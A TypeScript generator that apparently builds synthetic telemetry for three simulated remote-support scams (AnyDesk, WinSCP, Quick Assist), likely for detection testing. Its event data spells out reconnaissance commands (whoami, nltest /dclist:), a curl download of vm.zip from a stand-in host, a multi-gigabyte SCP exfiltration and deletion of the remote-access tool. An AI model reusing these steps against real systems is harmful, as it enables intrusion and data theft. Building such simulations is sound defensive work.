import {
  browserDownload,
  connectionEnd,
  dnsLookup,
  processStart,
} from '../../../../standalone/generator/host_events/endpoint';
import { mailDelivered } from '../../../../standalone/generator/host_events/mail';
import {
  CMD,
  CURL,
  EDGE,
  NLTEST,
  QUICK_ASSIST,
  WHOAMI,
  winScp,
} from '../../../../standalone/generator/host_events/programs';
import { quickAssistSession } from '../../../../standalone/generator/host_events/windows';
import { MINUTE_MS, SECOND_MS } from '../../../../standalone/generator/local_time';
import { atDesk, hasHost } from '../../../../standalone/generator/near_misses/near_miss';
import { AUSTIN, BERLIN } from '../../../../standalone/generator/sites';
import { anyDesk } from '../more_events';
import { onComputer, oneCallAttack, type CampaignMaker } from './campaign';

/** Luna Moth since March 2025: a caller "from our IT", portable AnyDesk and WinSCP, no malware (FBI FLASH, May 2026). */
export const itImpersonationAnyDesk: CampaignMaker = ({ random, callStartMs, take }) => {
  const victim = atDesk(
    take((person) => ['Legal', 'Human resources'].includes(person.department) && hasHost(person))
  );
  const at = onComputer(random, victim, callStartMs);
  const tool = anyDesk(victim.account);
  const copier = winScp(victim.account);
  return oneCallAttack({
    id: 'it_impersonation_anydesk',
    callStartMs,
    victim,
    minutes: 22,
    number: '+12025550161',
    events: [
      dnsLookup(at(4), EDGE, 'download.anydesk.com'),
      browserDownload(at(5), EDGE, {
        name: tool.name,
        folder: `C:\\Users\\${victim.account}\\Downloads`,
        originUrl: 'https://download.anydesk.com/AnyDesk.exe',
        size: 5_412_000,
      }),
      processStart(at(6), tool),
      dnsLookup(at(6.2), tool, 'boot.net.anydesk.com'),
      processStart(at(15), copier),
      connectionEnd(at(64), copier, {
        address: '203.0.113.61',
        port: 22,
        sentBytes: 2_301_220_400,
      }),
    ],
  });
};

/** Refund scam (CISA AA23-025A): a "bank" calls an employee, who starts AnyDesk; it ends without any move to other computers. */
export const bankRefundAnyDesk: CampaignMaker = ({ random, callStartMs, take }) => {
  const victim = atDesk(
    take((person) => person.site === BERLIN && person.roles.length === 0 && hasHost(person))
  );
  const at = onComputer(random, victim, callStartMs);
  const tool = anyDesk(victim.account);
  return oneCallAttack({
    id: 'bank_refund_anydesk',
    callStartMs,
    victim,
    minutes: 35,
    number: '+4917139200' + '77',
    events: [
      dnsLookup(at(7), EDGE, 'anydesk.com'),
      processStart(at(9), tool),
      dnsLookup(at(12), EDGE, 'banking.example.org'),
      processStart(at(33), CMD, { args: '/c del AnyDesk.exe' }),
    ],
  });
};

/** 3AM (Sophos, first quarter of 2025): 24 mails in 3 minutes, then a call that shows the IT department's own number. */
export const ownNumberQuickAssist: CampaignMaker = ({ random, company, callStartMs, take }) => {
  const victim = atDesk(
    take((person) => person.site === AUSTIN && person.roles.length === 0 && hasHost(person))
  );
  const shown = company.employees.find(
    ({ site, roles }) => site === AUSTIN && roles.includes('it_staff')
  );
  if (shown === undefined) throw new Error('The company has no IT in Austin.');
  const at = onComputer(random, victim, callStartMs);
  return oneCallAttack({
    id: 'own_number_quick_assist',
    callStartMs,
    victim,
    minutes: 19,
    number: shown.did,
    events: [
      ...Array.from({ length: 24 }, (_, nth) =>
        mailDelivered(random, {
          timeMs: callStartMs - 9 * MINUTE_MS + nth * 7 * SECOND_MS,
          from: `noreply@shop${nth + 1}.example.net`,
          to: victim,
          subject: 'Confirm your subscription',
        })
      ),
      processStart(at(4), QUICK_ASSIST),
      ...quickAssistSession(random, victim, { startMs: at(5.5).timeMs, endMs: at(40).timeMs }),
      processStart(at(8), WHOAMI, { parent: CMD, args: '/all' }),
      processStart(at(8.4), NLTEST, { parent: CMD, args: '/dclist:' }),
      processStart(at(13), CURL, {
        parent: CMD,
        args: '-o C:\\Users\\Public\\vm.zip https://files.example.net/vm.zip',
      }),
    ],
  });
};
